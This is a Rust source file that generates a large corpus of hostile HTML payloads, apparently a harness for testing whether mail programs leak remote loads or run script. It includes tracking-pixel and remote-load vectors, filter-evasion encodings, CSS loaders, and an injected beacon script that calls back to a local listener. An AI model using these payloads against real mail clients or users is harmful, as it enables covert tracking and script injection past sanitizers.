//! HTML that means to run a script in whoever opens it, or to tell its sender that it was opened;
//! after the classes in which mail programs were found wanting. Each bears a mark of its own, by
//! which it is known where it shows, where it runs, and where it asks for something.

use super::scripts::{HANDLERS, MUTATED, SCHEMES, SCRIPTS};

/// One attack.
#[derive(Debug, Clone)]
pub struct Payload {
    /// Told apart by this.
    pub mark: String,
    /// As it stands in a message.
    pub html: String,
}

/// What asks for `§`, by itself.
const LOADS: &[&str] = &[
    "<img src=\"§\">",
    "<img src='§'>",
    "<img src=§>",
    "<IMG SRC =\n\"§\">",
    "<img/src=\"§\"/>",
    "<img src=\"x\" src=\"§\"><img src=\"§\" src=\"x\">",
    "<image src=\"§\">",
    "<img srcset=\"§ 1x, §2 2x\">",
    "<img src=\"data:,\" srcset=\",, § 100w\" sizes=100vw>",
    "<img lowsrc=\"§\" dynsrc=\"§\">",
    "<img src=x onerror=\"this.src='§'\">",
    "<picture><source srcset=\"§\"><img></picture>",
    "<picture><source media=\"(min-width:1px)\" srcset=\"§\"><img src=\"§\"></picture>",
    "<input type=image src=\"§\">",
    "<body background=\"§\">",
    "<table background=\"§\"><tr background=\"§\"><td background=\"§\">x</table>",
    "<video src=\"§\" autoplay></video>",
    "<video poster=\"§\"></video>",
    "<video autoplay><source src=\"§\"></video>",
    "<video><track default kind=captions src=\"§\"></video>",
    "<audio src=\"§\" autoplay preload=auto></audio>",
    "<audio><source src=\"§\"></audio>",
    "<bgsound src=\"§\">",
    "<embed src=\"§\">",
    "<object data=\"§\">x</object>",
    "<object data=\"§\" type=\"image/svg+xml\">x</object>",
    "<object><param name=src value=\"§\"><param name=movie value=\"§\"></object>",
    "<applet code=x codebase=\"§\" archive=\"§\">x</applet>",
    "<iframe src=\"§\"></iframe>",
    "<iframe srcdoc=\"<img src=§>\"></iframe>",
    "<iframe srcdoc=\"&lt;img src=§&gt;\"></iframe>",
    "<frameset><frame src=\"§\"></frameset>",
    "<portal src=\"§\"></portal>",
    "<fencedframe src=\"§\"></fencedframe>",
    "<link rel=stylesheet href=\"§\">",
    "<link rel=\"STYLESHEET alternate\" href=\"§\">",
    "<link rel=icon href=\"§\">",
    "<link rel=prefetch href=\"§\">",
    "<link rel=preload as=image href=\"§\">",
    "<link rel=preload as=image imagesrcset=\"§\">",
    "<link rel=modulepreload href=\"§\">",
    "<link rel=preconnect href=\"§\">",
    "<link rel=dns-prefetch href=\"§\">",
    "<link rel=prerender href=\"§\">",
    "<link rel=manifest href=\"§\">",
    "<link rel=import href=\"§\">",
    "<link rel=pingback href=\"§\">",
    "<script type=speculationrules>{\"prerender\":[{\"urls\":[\"§\"]}]}</script>",
    "<meta http-equiv=refresh content=\"0;url=§\">",
    "<meta http-equiv=refresh content=\"0; URL='§'\">",
    "<meta http-equiv=\"&#114;efresh\" content=\"0,§\">",
    "<meta http-equiv=x-dns-prefetch-control content=on><a href=\"§\">x</a>",
    "<meta http-equiv=Link content=\"<§>; rel=stylesheet\">",
    "<meta http-equiv=Content-Security-Policy content=\"img-src *; report-uri §\"><img src=§>",
    "<base href=\"§/\"><img src=x>",
    "<base href=\"§/\"><img src=\"/§p\">",
    "<base href='§/'><link rel=stylesheet href=x>",
    "<form action=\"§\"><input name=a autofocus onfocus=\"this.form.submit()\"></form>",
    "<form id=f action=\"§\"></form><button form=f formaction=\"§\" autofocus>x</button>",
    "<isindex action=\"§\" type=image src=\"§\">",
    "<a href=\"§\" ping=\"§\">x</a>",
    "<svg><image href=\"§\" width=9 height=9 /></svg>",
    "<svg><image xlink:href=\"§\" width=9 height=9 /></svg>",
    "<svg><feImage href=\"§\" /></svg>",
    "<svg width=9 height=9><filter id=a><feImage xlink:href=\"§\" /></filter><rect width=9 height=9 filter=\"url(#a)\" /></svg>",
    "<svg><use href=\"§#a\" /></svg>",
    "<svg><use xlink:href=\"§#a\" /></svg>",
    "<svg><style>§import '§';</style></svg>",
    "<svg><style>rect{fill:url('§#a')}</style><rect width=9 height=9 /></svg>",
    "<svg><rect width=9 height=9 fill=\"url(§#a)\" /></svg>",
    "<svg><rect width=9 height=9 mask=\"url(§#a)\" clip-path=\"url(§#b)\" filter=\"url(§#c)\" /></svg>",
    "<svg><path d=\"M0 0L9 9\" marker-end=\"url(§#a)\" /></svg>",
    "<svg><image width=9 height=9><animate attributeName=href values=\"§\" dur=1s fill=freeze /></image></svg>",
    "<svg><image width=9 height=9><set attributeName=href to=\"§\" /></image></svg>",
    "<svg><image width=9 height=9><animate attributeName=xlink:href from=\"§\" to=\"§\" begin=0s dur=1s /></image></svg>",
    "<svg><rect width=9 height=9><animate attributeName=fill values=\"url(§#a)\" dur=1s /></rect></svg>",
    "<svg><foreignObject width=99 height=99><img src=\"§\"></foreignObject></svg>",
    "<svg><foreignObject><iframe src=\"§\"></iframe></foreignObject></svg>",
    "<svg><script href=\"§\" /></svg>",
    "<svg><script xlink:href=\"§\"></script></svg>",
    "<svg><font-face><font-face-src><font-face-uri xlink:href=\"§\" /></font-face-src></font-face></svg>",
    "<svg><cursor xlink:href=\"§\" /></svg>",
    "<svg><tref xlink:href=\"§#a\" /></svg>",
    "<svg><linearGradient xlink:href=\"§#a\" /></svg>",
    "<svg style=\"background:url(§)\" width=9 height=9></svg>",
    "<math><mglyph src=\"§\" /></math>",
    "<math href=\"§\"><mtext><img src=\"§\"></mtext></math>",
    "<math><annotation-xml encoding=\"text/html\"><img src=\"§\"></annotation-xml></math>",
    "<template><img src=\"§\"></template>",
    "<template shadowrootmode=open><img src=\"§\"></template>",
    "<noscript><img src=\"§\"></noscript>",
    "<noframes><img src=\"§\"></noframes><noembed><img src=\"§\"></noembed>",
    "<xmp><img src=\"§\"></xmp><img src=\"§\">",
    "<plaintext><img src=\"§\">",
    "<textarea><img src=\"§\"></textarea><img src=\"§\">",
    "<select><option><img src=\"§\"></select>",
    "<!--[if gte mso 9]><img src=\"§\"><![endif]-->",
    "<!--[if !mso]><!--><img src=\"§\"><!--<![endif]-->",
    "<![if true]><img src=\"§\"><![endif]>",
    "<![CDATA[<img src=\"§\">]]>",
    "<!--><img src=\"§\">-->",
    "<!---><img src=\"§\">-->",
    "<!-- --!><img src=\"§\">",
    "<!-- <!-- --><img src=\"§\"> -->",
    "<!DOCTYPE html SYSTEM \"§\"><img src=\"§\">",
    "<?xml version=\"1.0\"?><?xml-stylesheet href=\"§\"?><img src=\"§\">",
    "<v:shape><v:imagedata src=\"§\" /></v:shape>",
    "<v:background><v:fill type=frame src=\"§\" /></v:background>",
    "<o:OLEObject DrawAspect=Content href=\"§\" />",
    "<marquee background=\"§\" onstart=\"new Image().src='§'\">x</marquee>",
    "<ilayer src=\"§\"></ilayer><layer src=\"§\"></layer>",
    "<xml src=\"§\" id=x></xml><span datasrc=#x datafld=a></span>",
    "<blockquote cite=\"§\">x</blockquote><q cite=\"§\">x</q><ins cite=\"§\">x</ins>",
    "<html manifest=\"§\"><img src=\"§\"></html>",
    "<head profile=\"§\"><img src=\"§\">",
    "<img src=\"§\" usemap=#m><map name=m><area shape=default href=\"§\" ping=\"§\"></map>",
    "<img crossorigin src=\"§\" loading=eager fetchpriority=high>",
    "<img src=\"cid:none\" onerror=\"src='§'\"><img src=\"§\">",
    "<div><style></div><img src=\"§\"></style>",
    "<title><img src=\"§\"></title><img src=\"§\">",
    "<p title=\"<img src=§>\">x</p>",
    "<img alt=\"`><img src=§>\">",
    "<img src=\"§\"",
    "<img alt='\" src=\"§\">",
    "</p/><img src=\"§\">",
    "<\u{0}img src=\"§\"><im\u{0}g src=\"§\">",
    "<a href=\"§\"><img src=\"§\">",
    "<table><img src=\"§\"><tr><td></table>",
    "<b><p><img src=\"§\"></b><i><div></i>",
];

/// Ways to write the address in an attribute.
const FORMS: &[fn(&str) -> String] = &[
    |url| url.replace("http:", "HTTP:"),
    |url| url.replace("http:", ""),
    |url| url.replace("http://", "\\\\"),
    |url| url.replace("http://", "http:\\\\"),
    |url| url.replace("http://", "http:/"),
    |url| format!(" \t\n\u{1}{url}"),
    |url| url.replace("http:", "ht\ntp:"),
    |url| url.replace("http:", "ht&Tab;tp&colon;"),
    |url| url.bytes().map(|b| format!("&#{b};")).collect(),
    |url| url.bytes().map(|b| format!("&#x{b:x}")).collect(),
    |url| url.replace("127.0.0.1", "0x7f.1"),
    |url| url.replace("127.0.0.1", "2130706433"),
];

/// What holds an address in each of those ways.
const HOLDERS: &[&str] = &[
    "<img src=\"§\">",
    "<td background=\"§\">x",
    "<iframe src=\"§\"></iframe>",
    "<link rel=stylesheet href=\"§\">",
];

/// Declarations that load.
const STYLES: &[&str] = &[
    "background:url(§)",
    "background:URL( '§' )",
    "background-image:url(§",
    "background-image:url('§",
    "background:u\\72l(§)",
    "background:\\75\\72\\6c(§)",
    "background:url/**/(§);background:url(§)",
    "background:url(\\68ttp://§h)",
    "--a:url(§);background:var(--a)",
    "--a:'§';background:image-set(var(--a) 1x)",
    "background:var(--none,url(§))",
    "background-image:image-set('§' 1x)",
    "background-image:image-set(url(§) 1x)",
    "background-image:-webkit-image-set(url(§) 1x)",
    "background-image:-webkit-cross-fade(url(§),url(§2),50%)",
    "background-image:cross-fade(url(§),red)",
    "background-image:image('§')",
    "background-image:src('§')",
    "background-image:paint(a),url(§)",
    "list-style:url(§);display:list-item",
    "list-style-image:url(§);display:list-item",
    "border-image:url(§) 30 round;border:9px solid",
    "cursor:url(§),auto",
    "content:url(§)",
    "mask:url(§);-webkit-mask-image:url(§)",
    "filter:url(§#a)",
    "clip-path:url(§#a)",
    "shape-outside:url(§);float:left",
    "offset-path:url(§#a)",
    "behavior:url(§)",
    "-moz-binding:url(§#a)",
    "width:expression(new Image().src='§')",
    "background:url(data:image/svg+xml,<svg/onload=x>),url(§)",
    "color:red;/*}*/background:url(§)",
    "background:red;{};background:url(§)",
    "background:attr(title url,url(§))",
];

/// Style sheets that load.
const SHEETS: &[&str] = &[
    "@import '§';",
    "@import url(§);",
    "@IMPORT\tURL(\"§\") screen;",
    "@\\69mport '§';",
    "@charset 'x';@import/**/'§';",
    "<!-- @import '§'; -->",
    "@import '§'",
    "@import url(§) layer(a) supports(display:grid);",
    "@font-face{font-family:f;src:url(§)}*{font-family:f}",
    "@font-face{font-family:g;src:local(x),url('§') format('woff2')}p{font:9px g}",
    "@namespace url(§);@import url(§);",
    "@media all{body{background:url(§)}}",
    "@supports (display:block){p{background:url(§)}}",
    "@layer a{p{background:url(§)}}",
    "@container (width>0){p{background:url(§)}}",
    "@property --b{syntax:'<url>';inherits:true;initial-value:url(§)}p{background:var(--b)}",
    "@keyframes k{from{background:url(§)}to{background:url(§)}}p{animation:k 1s infinite}",
    "@counter-style c{system:cyclic;symbols:url(§)}li{list-style:c}",
    "@page{background:url(§)}",
    "@document url(§){p{background:url(§)}}",
    "p::before{content:url(§)}",
    "p:hover,p{background:url(§)}",
    "p[title^='a']{background:url(§)}",
    "html,body,p{background:url(§)}",
    "a:visited,a:link,p{background:url(§)}",
    "p{background:url(§)</style><p>x",
    "p{background:'\\\n',url(§)}",
    "p{}} p{background:url(§)}",
    "p{background:url('x\n');background:url(§)}",
    "<style>p{background:url(§)}</style>",
];

/// All of them, against whoever listens at `base`: `http://127.0.0.1:` and a port.
pub fn payloads(base: &str) -> Vec<Payload> {
    let forms = FORMS.iter().flat_map(|form| {
        let holders = HOLDERS.iter();
        holders.map(move |holder| {
            let holder = (*holder).to_owned();
            Box::new(move |url: &str| holder.replace('§', &form(url))) as Box<Make>
        })
    });
    let styles = STYLES.iter().map(|style| {
        let html = format!("<p style=\"{style}\">x</p>");
        Box::new(move |url: &str| filled(&html, url)) as Box<Make>
    });
    let sheets = SHEETS.iter().map(|sheet| {
        let html = format!("<style>{sheet}</style><p title=a>x</p><a href=x>x</a>");
        Box::new(move |url: &str| filled(&html, url)) as Box<Make>
    });
    let plain = LOADS.iter().chain(HANDLERS).chain(SCRIPTS).chain(MUTATED);
    let plain = plain.map(|html| Box::new(|url: &str| filled(html, url)) as Box<Make>);
    let schemes = SCHEMES.iter().flat_map(|(holder, schemes)| {
        schemes.iter().map(move |scheme| {
            let html = holder.replace("%", scheme);
            Box::new(move |url: &str| filled(&html, url)) as Box<Make>
        })
    });
    plain
        .chain(forms)
        .chain(styles)
        .chain(sheets)
        .chain(schemes)
        .enumerate()
        .map(|(number, make)| {
            let mark = format!("mark{number:03}");
            let html = make(&format!("{base}/{mark}"));
            Payload { mark, html }
        })
        .collect()
}

type Make = dyn Fn(&str) -> String;

/// An attack with its address for `§` (without its scheme for `§h`), and for `$` a script that tells of itself
/// to whoever is above, and asks for something.
pub(super) fn filled(html: &str, url: &str) -> String {
    let mark = url.rsplit('/').next().unwrap_or_default();
    let script = format!(
        "top.postMessage(`{mark}`,`*`),document.title=`{mark}`,new Image().src=`{url}-ran`"
    );
    html.replace("§h", url.trim_start_matches("http://"))
        .replace('§', url)
        .replace('$', &script)
}
